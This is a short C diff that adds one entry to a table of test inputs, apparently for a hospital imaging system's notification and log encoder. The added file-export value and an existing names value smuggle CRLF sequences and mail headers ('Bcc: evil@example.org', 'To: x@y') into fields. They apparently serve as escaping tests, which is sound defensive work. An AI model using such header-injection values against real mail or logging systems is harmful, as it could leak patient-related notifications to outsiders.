@@ -562,6 +562,8 @@ static const struct {
 	    "CT \xe8\xa3\x85\xe7\xbd\xae" },
 	{ "notify", "names", "g\xc3\xafna\x1fglo\nbex\x1fpacs\r\nTo: x@y"
 	    "\x1f" },
+	{ "notify", "file-export", "alice\x1f" "acme\x1f" "ct-scanner\x1f\x1f"
+	    "/log\r\n.\r\nBcc: evil@example.org\r\n\xe7\x94\xbb.dcm" },
 	{ "ship", "entry", "ihospital-a/node-a/2026/12/"
 	    "20261207T213651Z-9a5ce9a9528aacf2.brec 1247 89e6a22eef7b3b221a"
 	    "bbace9f19e4786b55f24d4d11476ebf886cc6463ac2b39\n" },
